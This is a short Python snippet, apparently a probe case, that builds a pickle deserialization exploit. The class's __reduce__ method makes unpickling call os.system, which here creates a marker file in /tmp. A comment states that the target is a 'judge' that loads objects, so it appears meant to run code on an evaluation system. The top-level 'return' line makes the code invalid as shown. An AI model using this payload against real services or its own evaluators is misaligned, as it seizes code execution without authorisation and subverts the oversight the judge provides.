# Where this is unpickled, a file appears, if the judge takes objects at all.
import os
class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/surprisal-case-39",))
return Evil()
